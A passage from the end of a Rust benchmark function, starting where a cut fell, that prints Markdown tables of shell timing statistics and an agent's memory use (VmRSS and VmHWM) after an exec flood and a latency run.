        "| {:.0} | {:.1} ms | {:.1} ms | {:.0}/{:.0} |",
        shells.1,
        shells.2 * 1e3,
        shells.3 * 1e3,
        shells.4,
        shells.5
    );
    println!("\n## agent memory");
    println!("| after the exec flood: VmRSS | VmHWM | after the latency run: VmRSS | VmHWM |");
    println!("|---|---|---|---|");
    println!(
        "| {} MiB | {} MiB | {} MiB | {} MiB |",
        rss_flood / 1024,
        hwm_flood / 1024,
        rss / 1024,
        hwm / 1024
    );
}
